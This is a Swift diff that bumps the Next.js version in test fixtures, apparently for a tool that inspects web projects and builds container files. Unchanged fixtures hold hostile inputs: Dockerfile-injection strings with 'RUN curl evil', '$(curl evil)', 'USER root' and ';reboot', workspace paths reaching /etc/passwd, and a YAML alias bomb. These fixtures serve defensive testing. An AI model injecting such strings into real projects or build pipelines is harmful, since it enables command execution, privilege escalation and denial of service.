@@ -7,8 +7,8 @@ extension Shape {
 
   private static let both = [
     "frontend/package.json":
-      #"{"name":"shop-web","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build"}}"#,
-    "frontend/package-lock.json": #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.0.10"}}}"#,
+      #"{"name":"shop-web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
+    "frontend/package-lock.json": #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.3.4"}}}"#,
     "frontend/app/page.tsx": "export const api = process.env.NEXT_PUBLIC_API_URL ?? 'http://localhost:8000/api/v1'",
     "frontend/lib/server.ts": "export const api = process.env.API_URL",
     "backend/requirements.txt": "fastapi==0.120.0\nuvicorn==0.38.0\n",
@@ -95,7 +95,7 @@ extension Shape {
       name: "54a-odd-names",
       files: [
         "my app/package.json":
-          "{\r\n\"dependencies\": {\r\n\"next\": \"16.0.10\"},\r\n\"scripts\": {\"build\": \"next build\"}}\r\n",
+          "{\r\n\"dependencies\": {\r\n\"next\": \"16.3.4\"},\r\n\"scripts\": {\"build\": \"next build\"}}\r\n",
         "my app/app/page.tsx": "process.env.A", "my app/app/Page.tsx": "process.env.B",
       ]),
     Shape(
@@ -148,13 +148,13 @@ extension Shape {
       name: "56c-windows-paths",
       files: both.merging([
         "frontend/package.json":
-          #"{"name":"shop-web","dependencies":{"next":"16.0.10","ui":"file:..\\ui"},"scripts":{"build":"next build"}}"#
+          #"{"name":"shop-web","dependencies":{"next":"16.3.4","ui":"file:..\\ui"},"scripts":{"build":"next build"}}"#
       ]) { $1 }),
     Shape(
       name: "57a-injection",
       files: [
         "package.json":
-          #"{"name":"x\nRUN curl evil","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build; $(curl evil)\nUSER root","start":"next start -p 80;reboot"}}"#,
+          #"{"name":"x\nRUN curl evil","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build; $(curl evil)\nUSER root","start":"next start -p 80;reboot"}}"#,
         "app/page.tsx": "process.env['A\\nRUN x']", ".nvmrc": "22\nRUN curl evil\n",
         "next.config.js": "module.exports = { basePath: '/a\\nUSER root', distDir: '.next\\nUSER root' }",
       ]),
@@ -163,14 +163,14 @@ extension Shape {
       files: [
         "package.json": #"{"private":true,"workspaces":["../../etc/*","/etc/*","apps/*"]}"#,
         "apps/web/package.json":
-          #"{"name":"web","dependencies":{"next":"16.0.10","a":"file:../../../../etc","b":"link:/etc"},"scripts":{"build":"next build"}}"#,
+          #"{"name":"web","dependencies":{"next":"16.3.4","a":"file:../../../../etc","b":"link:/etc"},"scripts":{"build":"next build"}}"#,
         "apps/web/app/page.tsx": "",
         "apps/web/next.config.js": "import x from '../../../../etc/passwd'\nmodule.exports = x",
       ]),
     Shape(
       name: "57c-bombs",
       files: [
-        "package.json": #"{"name":"web","dependencies":{"next":"16.0.10"},"scripts":{"build":"next build"}}"#,
+        "package.json": #"{"name":"web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
         "app/page.tsx": "",
         "docker-compose.yml": "a: &a [x,x,x,x,x,x,x,x]\n"
           + (0..<20).map { "b\($0): &b\($0) [*\($0 == 0 ? "a" : "b\($0 - 1)"),*\($0 == 0 ? "a" : "b\($0 - 1)")]\n" }
